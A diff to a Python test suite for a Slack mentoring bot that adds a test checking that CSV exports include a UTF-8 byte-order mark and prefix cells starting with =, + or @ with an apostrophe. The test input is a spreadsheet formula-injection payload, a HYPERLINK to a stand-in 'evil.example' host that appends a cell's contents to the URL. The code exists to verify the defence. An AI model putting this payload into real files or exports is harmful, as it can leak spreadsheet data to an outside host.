@@ -99,7 +99,7 @@ EXPECTED = [
 
 def csv_file(program: Program, kind: str) -> list[dict[str, str]]:
     (found,) = [f for f in program.slack.files() if f.name.startswith(f"rotnem-{kind}-")]
-    return list(csv.DictReader(io.StringIO(found.content.decode())))
+    return list(csv.DictReader(io.StringIO(found.content.decode("utf-8-sig"))))
 
 
 @BOTH_BACKENDS
@@ -196,3 +196,17 @@ async def test_a_guide_of_two_whose_learner_leaves_is_still_in_a_pair_everywhere
     await program.slack.wait_for("files.completeUploadExternal", 1, timeout=10)
     status = {p["user_id"]: p["status"] for p in csv_file(program, "participants")}
     assert status[ANA] == status[CARLA] == "in_pair" and status[BEN] == "left"
+
+
+async def test_exports_open_in_a_spreadsheet_as_typed_never_as_formulas(program: Program) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    await program.join(ANA, formula, "guide", teaches=["ChatGPT"], department="+Sales")
+    await program.join(BEN, "Zoë Müller", "learner", learns=["ChatGPT"], department="@Ops")
+    await program.command("admin export participants")
+    await program.slack.wait_for("files.completeUploadExternal", 1, timeout=10)
+    (found,) = program.slack.files()
+    assert found.content.startswith("\ufeff".encode())  # Excel reads "Zoë", not "ZoÃ«"
+    people = {p["user_id"]: p for p in csv_file(program, "participants")}
+    assert people[ANA]["name"] == "'" + formula  # text, not a formula
+    assert people[ANA]["department"] == "'+Sales" and people[BEN]["department"] == "'@Ops"
+    assert people[BEN]["name"] == "Zoë Müller"
